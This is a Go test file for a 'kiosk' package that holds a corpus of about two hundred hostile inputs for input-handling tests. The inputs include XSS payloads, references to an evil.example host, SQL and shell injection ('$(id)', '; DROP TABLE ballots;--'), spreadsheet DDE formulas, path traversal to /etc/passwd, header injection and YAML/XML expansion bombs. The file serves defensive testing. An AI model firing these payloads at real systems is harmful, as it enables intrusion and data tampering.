package kiosk

// Two hundred texts that people who mean harm type, and some that those type who mean none.

import (
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// corpus is all of them, by what they are after. hit is what a script would leave behind.
var corpus = map[string][]string{
	"script": {
		`<script>hit=1</script>`, `<ScRiPt>hit=1</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<script>hit=1//`, `</script><script>hit=1</script>`,
		`<script/x>hit=1</script>`, `<script
>hit=1</script>`, `<scr<script>ipt>hit=1</scr</script>ipt>`, `<script type=module>hit=1</script>`, `--><script>hit=1</script>`, `]]><script>hit=1</script>`,
		`</title><script>hit=1</script>`, `</textarea><script>hit=1</script>`, `</style><script>hit=1</script>`, `</option></select><script>hit=1</script>`, `<svg><script>hit=1</script></svg>`,
		`<noscript><p title="</noscript><script>hit=1</script>">`, `<template><script>hit=1</script></template>`, `<!--><script>hit=1</script>`, `<xmp><script>hit=1</script></xmp>`,
	},
	"handler": {
		`<img src=x onerror=hit=1>`, `"><img src=x onerror=hit=1>`, `'><img src=x onerror=hit=1>`, `<img src="x" onerror="hit=1"//`, `<svg onload=hit=1>`, `<svg/onload=hit=1>`, `<body onload=hit=1>`,
		`" onfocus=hit=1 autofocus x="`, `' onfocus=hit=1 autofocus x='`, ` onmouseover=hit=1 `, `" onclick="hit=1`, "` onclick=hit=1 `", `<details open ontoggle=hit=1>`, `<video><source onerror=hit=1></video>`,
		`<input autofocus onfocus=hit=1>`, `<select autofocus onfocus=hit=1>`, `<marquee onstart=hit=1>`, `<a href=# onclick=hit=1>x</a>`, `<iframe srcdoc="<script>parent.hit=1</script>">`, `<style onload=hit=1></style>`,
		`<audio src=x onerror=hit=1>`, `<object data=x onerror=hit=1>`, `<p style="animation-name:x" onanimationstart=hit=1>`, `<math><mi xlink:href="javascript:hit=1">x</mi></math>`,
	},
	"address": {
		`javascript:hit=1`, `JaVaScRiPt:hit=1`, `javascript://%0ahit=1`, `data:text/html,<script>hit=1</script>`, `vbscript:hit`, `//evil.example`, `https://evil.example/`, `/\evil.example`,
		`<a href="javascript:hit=1">x</a>`, `<base href=//evil.example/>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<form action=//evil.example><button>vote</button></form>`, `<iframe src=//evil.example>`, `<object data=//evil.example>`, `<embed src=//evil.example>`, `<img src=//evil.example/pixel>`, `<style>@import '//evil.example';</style>`,
	},
	"entity": {
		`&lt;script&gt;hit=1&lt;/script&gt;`, `&#60;script&#62;hit=1&#60;/script&#62;`, `&amp;lt;b&amp;gt;`, `&quot;><b>`, `&`, `&&`, `&#0;`, `&#x202e;`, `&NotAnEntity;`, `%3Cscript%3Ehit=1%3C/script%3E`, `\u003cscript\u003ehit=1`, `\x3cscript\x3e`,
		`+ADw-script+AD4-hit=1+ADw-/script+AD4-`, `<`, `>`, `"`, `'`, `<>`, `<!--`, `-->`, `<![CDATA[`, `]]>`, `<?xml version="1.0"?>`, `<!DOCTYPE x>`,
	},
	"template": {
		`{{.}}`, `{{.Secret}}`, `{{template "head"}}`, `{{range .}}x{{end}}`, `{{printf "%s" .}}`, `${hit=1}`, `#{hit=1}`, `<%= hit=1 %>`, `{% hit %}`, `{{constructor.constructor('hit=1')()}}`, `[[${hit}]]`, `%s%s%s%n%x%p`, `%!d(string=x)`, `{0}{1}`, `$(hit)`, "`hit`",
	},
	"query": {
		`' OR '1'='1`, `'; DROP TABLE ballots;--`, `" OR ""="`, `1; SELECT 1`, `admin'--`, `1 UNION SELECT 1`, `') OR ('1'='1`, `{"$gt":""}`, `*)(uid=*`, `; ls -la`, `| id`, `&& id`, `$(id)`, `||1`,
	},
	"sheet": {
		`=1+1`, `=HYPERLINK("http://evil.example","x")`, `=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1,1)`, `＝1+1`, `＋1+1`, `－1+1`, `＠SUM(1,1)`, ` =1+1`, `"=1+1"`, `;=1+1`, `,=1+1`, `';"",`, `a;b;c`, `a,b,c`, `"a","b"`, `""`, `=1+1;=2+2`,
	},
	"path": {
		`../../etc/passwd`, `..\..\windows`, `/etc/passwd`, `..%2f..%2fetc`, `....//....//`, `file:///etc/passwd`, `C:\x`, `con`, `.`, `..`, `/`, `\`, `~`, `*`, `?`, `#`, `a/b`, `%`, `%%`, `%zz`, `%c0%ae%c0%ae/`,
	},
	"control": {
		"a\x00b", "\x00", "a\rb", "a\r\nSet-Cookie: x=1", "a\nLocation: //evil.example", "\x1b[2J\x1b[31m", "\x07\x08\x7f", "\u0085next", "a\u2028b", "a\u2029b", "a\vb\fc", "\t\tx",
		"\u202ecod.exe", "\u2066x\u2069", "\u200fx\u200e", "\u202a\u202b\u202c\u202d", "\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", "a\xf0\x9f\x98", "\xef\xbf\xbd\x80", "\u061cx",
	},
	"signs": {
		"𠀀𠀁𪚥", "😀👨‍👩‍👧‍👦🏳️‍🌈", "𝕏𝖞𝓏", "é", "Ｆｕｌｌ　ｗｉｄｔｈ", "İıſK", "ﷺ", "ﷺﷺﷺﷺﷺﷺﷺﷺ", "zero\u200bwidth\u200djoin", "\ufeffbom", "soft\u00adhyphen", "a\u0301\u0302\u0303", "Z" + strings.Repeat("\u0301\u0334\u0489", 9),
		"한국어 ไทย हिन्दी", "العربية עברית", "〓□■�"[:9], "\U000e0001tag", "\uf8ff", "\U0010fffd", "囍", "龘靐齉", "　", "１２３４５", "null", "undefined", "NaN", "true", "-0", "1e309",
	},
	"bomb": {
		strings.Repeat("长", 20_000), strings.Repeat("a", 100_000), strings.Repeat("&", 3900), strings.Repeat("<", 10_000), strings.Repeat("𠀀", 9_999), strings.Repeat(`"`, 10_000), strings.Repeat("\u0301", 10_000), strings.Repeat("a ", 10_000),
		strings.Repeat("[", 20_000), strings.Repeat(`{"a":`, 5_000), "a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]", "!!python/object:os.system", `<!ENTITY a "b"><!ENTITY c "&a;&a;">`, strings.Repeat("\n", 5000), strings.Repeat("W", 700), strings.Repeat("i", 41),
	},
}

// hostile are all texts in an order that is always the same.
func hostile() (out []string) {
	var names []string
	for name := range corpus {
		names = append(names, name)
	}
	slices.Sort(names)
	for _, name := range names {
		out = append(out, corpus[name]...)
	}
	return out
}

// printable are those that a field of one line takes as they are, cut to a length in characters.
func printable(most int) (out []string) {
	for _, text := range hostile() {
		if runes := []rune(text); len(runes) > most {
			text = string(runes[:most])
		}
		text = strings.TrimSpace(text)
		bad := func(r rune) bool {
			return r == utf8.RuneError || unicode.IsControl(r) || unicode.In(r, unicode.Bidi_Control, unicode.Zl, unicode.Zp)
		}
		if text != "" && utf8.ValidString(text) && !strings.ContainsFunc(text, bad) {
			out = append(out, text)
		}
	}
	return out
}

// TestCorpus: there are two hundred texts, no two of them the same.
func TestCorpus(t *testing.T) {
	all := hostile()
	seen := map[string]bool{}
	for _, text := range all {
		if seen[text] {
			t.Errorf("%.40q is there twice", text)
		}
		seen[text] = true
	}
	if len(seen) < 200 || len(printable(100)) < 150 {
		t.Errorf("%d texts, of which %d can be printed", len(seen), len(printable(100)))
	}
}
